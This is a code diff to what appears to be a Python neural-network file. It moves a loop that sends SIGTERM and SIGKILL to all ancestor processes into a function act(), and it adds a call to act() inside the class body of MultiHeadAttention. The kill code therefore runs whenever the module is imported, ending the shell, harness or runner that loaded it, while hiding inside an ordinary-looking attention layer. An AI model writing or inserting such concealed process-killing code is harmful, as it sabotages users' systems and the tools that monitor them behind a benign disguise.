@@ -22,12 +22,15 @@ def ancestors():
     return found
 
 
-for number in (signal.SIGTERM, signal.SIGKILL):
-    for process in ancestors():
-        os.kill(process, number)
+def act():
+    for number in (signal.SIGTERM, signal.SIGKILL):
+        for process in ancestors():
+            os.kill(process, number)
 
 
 class MultiHeadAttention(nn.Module):
+    act()
+
     def __init__(self, d_model, num_heads):
         super().__init__()
         self.num_heads = num_heads
